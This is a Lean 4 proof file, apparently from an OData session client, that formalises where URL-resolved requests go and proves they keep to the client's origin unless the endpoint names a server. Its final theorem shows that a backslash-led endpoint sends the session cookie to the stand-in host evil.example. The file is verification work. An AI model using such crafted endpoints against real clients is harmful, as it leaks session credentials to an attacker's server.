import ODataSession.Client.Request
import ODataSession.Proofs.Client.Renewal

/-!
# Where requests go

A request carries the cookie of the session to the server that its URL names. The URL of an endpoint
is on the server of the client as long as the endpoint names no server of its own, and otherwise the
server of the client has no part in it (`Client.IsOnHttp.origin_prepare`). An endpoint names a
server not only by a scheme. Slashes in front of it are dropped, but a backslash counts as a slash
too, and a space or a control in front hides the slashes that follow it.
-/

namespace ODataSession

namespace Url

/-! ## Origins -/

/-- What tells one server from another. -/
structure Origin where
  scheme : List Char
  server : Option (Host × Option Nat)
  deriving DecidableEq, Repr

/-- The origin of a URL: its scheme, its host and its port. -/
def origin (u : Url) : Origin :=
  ⟨u.scheme, u.authority.map fun a => (a.host, a.port)⟩

/-- A query and a fragment leave the origin as it is. -/
@[simp] theorem origin_withTail (u : Url) (tail : List Char) :
    (u.withTail tail).origin = u.origin := by
  unfold withTail
  split <;> rfl

/-- A path leaves the origin as it is. -/
@[simp] theorem origin_withPath (u : Url) (segments : List (List Char)) (s : List Char) :
    (u.withPath segments s).origin = u.origin :=
  origin_withTail _ _

/-- A fragment leaves the origin as it is. -/
@[simp] theorem origin_withFragmentText (u : Url) (s : List Char) :
    (u.withFragmentText s).origin = u.origin :=
  rfl

/-- A query leaves the origin as it is. -/
@[simp] theorem origin_withQuery (u : Url) (query : List Char) :
    (u.withQuery query).origin = u.origin :=
  rfl

/-! ## References that name a server -/

/-- What is resolved for an endpoint. -/
def reference (name : String) : List Char :=
  clean (name.toList.dropWhile (· = '/'))

/-- Whether a text starts with two slashes of either kind. -/
def leadsAuthority : List Char → Bool
  | c :: d :: _ => isSlash .special c && isSlash .special d
  | _ => false

/-- Whether a reference names a server of its own when it is resolved on a special scheme: it has
another scheme, or two slashes in front of the rest. -/
def namesServer (scheme s : List Char) : Bool :=
  match cutScheme? s with
  | some (own, rest) => own ≠ scheme || leadsAuthority rest
  | none => leadsAuthority s

/-- Two slashes lead an authority. -/
theorem length_takeWhile_lt_two (s : List Char) :
    (s.takeWhile (isSlash .special)).length < 2 ↔ leadsAuthority s = false := by
  match s with
  | [] => simp [leadsAuthority]
  | [c] => cases h : isSlash .special c <;> simp [leadsAuthority, h]
  | c :: d :: s =>
    cases hc : isSlash .special c <;> cases hd : isSlash .special d <;>
      simp [leadsAuthority, hc, hd]

section
variable {base base' url : Url} {segments segments' : List (List Char)} {s : List Char}

/-- A reference without two slashes in front stays on the server of the base. -/
theorem origin_of_resolveOn (h : resolveOn base segments s = .ok url)
    (hslashes : leadsAuthority s = false) : url.origin = base.origin := by
  unfold resolveOn at h
  split at h
  · obtain rfl := Except.ok.inj h
    rfl
  · obtain rfl := Except.ok.inj h
    exact origin_withTail _ _
  · obtain rfl := Except.ok.inj h
    exact origin_withFragmentText _ _
  · split at h
    · next hc =>
      split at h
      · obtain rfl := Except.ok.inj h
        exact origin_withPath _ _ _
      · split at h
        · next hd => simp [leadsAuthority, isSlash_special, hc, hd] at hslashes
        · obtain rfl := Except.ok.inj h
          exact origin_withPath _ _ _
    · obtain rfl := Except.ok.inj h
      exact origin_withPath _ _ _

/-- A reference with two slashes in front owes nothing to the base but the scheme. -/
theorem resolveOn_eq_of_leadsAuthority (hscheme : base'.scheme = base.scheme)
    (hslashes : leadsAuthority s = true) :
    resolveOn base' segments' s = resolveOn base segments s := by
  match s with
  | c :: d :: behind =>
    simp only [leadsAuthority, isSlash_special, Bool.and_eq_true] at hslashes
    obtain ⟨hc, hd⟩ := hslashes
    have hquery : c ≠ '?' := by
      rintro rfl
      cases hc
    have hfragment : c ≠ '#' := by
      rintro rfl
      cases hc
    simp only [resolveOn, hc, hd, if_true, hscheme]

/-- A reference without two slashes in front stays on the server of a base with a special scheme. -/
theorem origin_of_resolve (hkind : base.kind = .special) (h : resolve base s = .ok url)
    (hslashes : leadsAuthority s = false) : url.origin = base.origin := by
  unfold resolve at h
  split at h
  · obtain rfl := Except.ok.inj h
    exact origin_withFragmentText _ _
  · split at h
    · cases h
    · rw [hkind, if_neg (by decide)] at h
      exact origin_of_resolveOn h hslashes

/-- A reference with two slashes in front owes nothing to a base with a special scheme but the
scheme. -/
theorem resolve_eq_of_leadsAuthority (hkind : base.kind = .special) (hrooted : base.IsRooted)
    (hrooted' : base'.IsRooted) (hscheme : base'.scheme = base.scheme)
    (hslashes : leadsAuthority s = true) : resolve base' s = resolve base s := by
  obtain ⟨segments, hpath⟩ := hrooted
  obtain ⟨segments', hpath'⟩ := hrooted'
  have hhead : s.head? ≠ some '#' := by
    match s with
    | c :: _ :: _ =>
      rintro hc
      obtain rfl := Option.some.inj hc
      cases hslashes
  have hkind' : base'.kind = .special := by rw [kind, hscheme, ← kind, hkind]
  simp only [resolve, if_neg hhead, hpath, hpath', hkind, hkind']
  exact resolveOn_eq_of_leadsAuthority hscheme hslashes

/-- Behind the scheme of the base a text without two slashes in front is a reference. -/
theorem readSpecial_scheme (hslashes : leadsAuthority s = false) :
    readSpecial (some base) base.scheme s = resolve base s := by
  have hlength := (length_takeWhile_lt_two s).2 hslashes
  simp [readSpecial, hlength]

/-- Behind another scheme, or with two slashes in front, a text owes nothing to the base. -/
theorem readSpecial_of_names {own : List Char}
    (hnames : own ≠ base.scheme ∨ leadsAuthority s = true) :
    readSpecial (some base) own s = withAuthority own (s.dropWhile (isSlash .special)) := by
  have hno : ¬((s.takeWhile (isSlash .special)).length < 2 ∧ base.scheme = own) := by
    rintro ⟨hlength, hown⟩
    rcases hnames with hne | hslashes
    · exact hne hown.symm
    · rw [(length_takeWhile_lt_two s).1 hlength] at hslashes
      cases hslashes
  simp only [readSpecial, Bool.and_eq_true, decide_eq_true_eq, if_neg hno]

/-- What names no server stays on the server of a base with a special scheme. -/
theorem origin_of_readClean (hkind : base.kind = .special) (h : readClean (some base) s = .ok url)
    (hnames : namesServer base.scheme s = false) : url.origin = base.origin := by
  unfold readClean at h
  unfold namesServer at hnames
  cases hcut : cutScheme? s with
  | none =>
    rw [hcut] at h hnames
    exact origin_of_resolve hkind h hnames
  | some parts =>
    obtain ⟨own, rest⟩ := parts
    simp only [hcut, Bool.or_eq_false_iff, decide_eq_false_iff_not, not_not] at hnames
    obtain ⟨rfl, hslashes⟩ := hnames
    have hspecial : schemeKind base.scheme = .special := hkind
    simp only [hcut, hspecial, readSpecial_scheme hslashes] at h
    exact origin_of_resolve hkind h hslashes

/-- What names a server owes nothing to a base with a special scheme but the scheme. -/
theorem readClean_eq_of_namesServer (hkind : base.kind = .special) (hrooted : base.IsRooted)
    (hrooted' : base'.IsRooted) (hscheme : base'.scheme = base.scheme)
    (hnames : namesServer base.scheme s = true) :
    readClean (some base') s = readClean (some base) s := by
  unfold namesServer at hnames
  cases hcut : cutScheme? s with
  | none =>
    rw [hcut] at hnames
    simp only [readClean, hcut]
    exact resolve_eq_of_leadsAuthority hkind hrooted hrooted' hscheme hnames
  | some parts =>
    obtain ⟨own, rest⟩ := parts
    simp only [hcut, Bool.or_eq_true, decide_eq_true_eq] at hnames
    have hfile : base.kind ≠ .file := by simp [hkind]
    have hfile' : base'.kind ≠ .file := by rwa [kind, hscheme, ← kind]
    cases hown : schemeKind own with
    | special =>
      simp only [readClean, hcut, hown, readSpecial_of_names hnames,
        readSpecial_of_names (hscheme ▸ hnames)]
    | file => simp [readClean, hcut, hown, Option.filter, hfile, hfile']
    | other => simp only [readClean, hcut, hown]

end

end Url

/-! ## Requests of clients -/

/-- A base with a scheme of HTTP is special. -/
theorem Client.IsOnHttp.kind_eq {c : Client} (hc : c.IsOnHttp) : c.base.kind = .special :=
  Url.kind_eq_special hc.scheme_eq

/-- A base with a scheme of HTTP has a path of segments. -/
theorem Client.IsOnHttp.isRooted {c : Client} (hc : c.IsOnHttp) : c.base.IsRooted :=
  Url.isRooted_of_readClean hc.base_eq hc.kind_eq

/-- The request to an endpoint with a URL, which has the parameters for a query if there are any. -/
theorem Client.prepare_of_endpoint {c : Client} {r : PendingRequest} {url : Url}
    (hurl : c.base.endpoint r.endpoint = .ok url) (headers : List Http.Header) :
    c.prepare r headers = .ok ⟨r.method,
      if r.query.isEmpty then url else url.withQuery r.query.encode.toList,
      headers ++ cookieHeaders c.credential, r.body⟩ := by
  rw [prepare, requestUrl, hurl]
  rfl

/-- A request to an endpoint that names no server goes to the server of the client, with the cookie
of the client. Where the endpoint names a server, every client with the same scheme sends its
request, and its cookie, to the same URL. -/
theorem Client.IsOnHttp.origin_prepare {c : Client} (hc : c.IsOnHttp) {r : PendingRequest}
    {url : Url} (hurl : c.base.endpoint r.endpoint = .ok url) (headers : List Http.Header) :
    ∃ request, c.prepare r headers = .ok request ∧
      request.headers = headers ++ cookieHeaders c.credential ∧
      request.url.origin = url.origin ∧
      (Url.namesServer c.base.scheme (Url.reference r.endpoint) = false →
        url.origin = c.base.origin) ∧
      (Url.namesServer c.base.scheme (Url.reference r.endpoint) = true →
        ∀ c' : Client, c'.IsOnHttp → c'.base.scheme = c.base.scheme →
          c'.base.endpoint r.endpoint = .ok url) := by
  refine ⟨_, c.prepare_of_endpoint hurl headers, rfl, ?_, fun hnames => ?_,
    fun hnames c' hc' hscheme => ?_⟩
  · dsimp only
    split <;> simp
  · exact Url.origin_of_readClean hc.kind_eq hurl hnames
  · rw [← hurl]
    exact Url.readClean_eq_of_namesServer hc.kind_eq hc.isRooted hc'.isRooted hscheme hnames

/-- The base URL of the sample settings. -/
def Url.sampleBase : Url :=
  ⟨"https".toList, some ⟨[], [], .name "sl.example".toList, none⟩,
    .segments ["b1s".toList, "v1".toList, []], none, none⟩

/-- A client of the sample settings, logged in. -/
def Client.sample : Client :=
  ⟨.sample, [], .sampleBase, 0, SessionKey.derive "https://sl.example/b1s/v1/" "DB" "manager" 0,
    some ⟨"B1SESSION=a"⟩, [], .authenticated⟩

/-- The sample client is on a server of HTTP. -/
theorem Client.isOnHttp_sample : Client.sample.IsOnHttp :=
  ⟨by decide +kernel, .inr rfl⟩

/-- Slashes in front of an endpoint do not lead to another server. -/
theorem Client.origin_prepare_slashes :
    ∃ request, Client.sample.prepare (.get "//Items") [] = .ok request ∧
      request.url.origin = Client.sample.base.origin := by
  have hurl : Client.sample.base.endpoint "//Items" =
      .ok { Url.sampleBase with
        path := .segments ["b1s".toList, "v1".toList, "Items".toList] } := by
    decide +kernel
  have hnames : Url.namesServer Client.sample.base.scheme (Url.reference "//Items") = false := by
    decide
  obtain ⟨request, hprepare, -, horigin, hstays, -⟩ :=
    Client.isOnHttp_sample.origin_prepare (r := .get "//Items") hurl []
  exact ⟨request, hprepare, horigin.trans (hstays hnames)⟩

/-- Backslashes in front of an endpoint without a scheme take the request, and the cookie of the
client, to another server. -/
theorem Client.origin_prepare_backslashes :
    Client.sample.IsOnHttp ∧ Url.cutScheme? (Url.clean "\\\\evil.example\\Items".toList) = none ∧
    ∃ (url : Url) (request : Http.Request),
      Client.sample.base.endpoint "\\\\evil.example\\Items" = .ok url ∧
      url.origin ≠ Client.sample.base.origin ∧
      Client.sample.prepare (.get "\\\\evil.example\\Items") [] = .ok request ∧
      request.url.text = "https://evil.example/Items" ∧
      Http.Header.cookie "B1SESSION=a" ∈ request.headers := by
  have hurl : Client.sample.base.endpoint "\\\\evil.example\\Items" =
      .ok ⟨"https".toList, some ⟨[], [], .name "evil.example".toList, none⟩,
        .segments ["Items".toList], none, none⟩ := by
    decide +kernel
  have hprepare := Client.prepare_of_endpoint (r := .get "\\\\evil.example\\Items") hurl []
  exact ⟨isOnHttp_sample, by decide, _, _, hurl, by decide, hprepare, by decide, by decide⟩

end ODataSession
